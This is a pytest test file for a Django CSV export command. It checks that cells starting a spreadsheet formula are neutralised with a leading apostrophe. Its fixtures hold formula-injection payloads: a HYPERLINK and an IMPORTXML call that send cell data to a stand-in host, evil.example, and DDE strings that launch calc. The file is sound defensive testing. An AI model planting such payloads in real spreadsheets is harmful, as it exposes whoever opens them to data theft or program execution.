"""Cells a spreadsheet would run as formulas are neutralised in the CSV that export_places writes."""

import csv

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from places.exporters import FORMULA_STARTS, neutralize_formula
from places.models import MAX_SUMMARY_LENGTH, Place
from tests.factories import make_place
from tests.places.schema import validate_standard_csv

FREE_TEXT_COLUMNS = [
    "nom",
    "adresse",
    "complement_adresse",
    "commune",
    "presentation_resume",
    "presentation_detail",
    "horaires",
    "source",
    "structure_parente",
    "autres_formations_labels",
]


@pytest.mark.django_db
def test_exported_csv_neutralises_formulas_in_free_text(tmp_path):
    make_place(
        name='=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        address="+SUM(1,2)",
        address_complement="-2+3",
        description="@cmd|' /C calc'!A0",
        summary="\t=1+1",
        source='=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    )
    path = tmp_path / "export.csv"
    call_command("export_places", path)
    with open(path, encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["nom"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    assert row["adresse"] == "'+SUM(1,2)"
    assert row["complement_adresse"] == "'-2+3"
    assert row["presentation_detail"] == "'@cmd|' /C calc'!A0"
    assert row["presentation_resume"] == "'\t=1+1"
    assert row["source"].startswith("'=IMPORTXML")
    for column in FREE_TEXT_COLUMNS:
        assert not row[column].startswith(FORMULA_STARTS), column


def export_rows(tmp_path) -> tuple[list[dict], list[str]]:
    """The rows export_places writes, and the official schema's errors in the file."""
    path = tmp_path / "export.csv"
    call_command("export_places", path)
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle)), validate_standard_csv(path)


@pytest.mark.django_db
def test_an_email_stored_before_emails_were_checked_is_neutralised_too(tmp_path):
    place = make_place()
    # Written around validation (an old import, a shell): the export is the last defence.
    Place.objects.filter(pk=place.pk).update(
        emails=["=cmd|'/Ccalc.exe'!A0@example.fr", "contact@example.org"]
    )
    [row], _errors = export_rows(tmp_path)
    assert row["courriels"] == "'=cmd|'/Ccalc.exe'!A0@example.fr|contact@example.org"


@pytest.mark.django_db
def test_a_neutralised_summary_keeps_within_the_schemas_maximum(tmp_path):
    make_place(summary="-" + "x" * (MAX_SUMMARY_LENGTH - 1))
    [row], errors = export_rows(tmp_path)
    assert row["presentation_resume"] == "'-" + "x" * (MAX_SUMMARY_LENGTH - 2)
    assert errors == []


@settings(database=None)
@given(st.text())
def test_neutralize_formula_only_prefixes_cells_that_start_a_formula(value):
    result = neutralize_formula(value)
    assert not result.startswith(FORMULA_STARTS)
    assert result in (value, "'" + value)
    assert (result != value) == value.startswith(FORMULA_STARTS)


@settings(database=None)
@given(st.text(), st.integers(min_value=1, max_value=300))
def test_a_neutralised_cell_keeps_within_its_maximum(value, max_length):
    value = value[:max_length]
    result = neutralize_formula(value, max_length)
    assert len(result) <= max_length
    assert not result.startswith(FORMULA_STARTS)
    assert result == value or result == "'" + value[: max_length - 1]
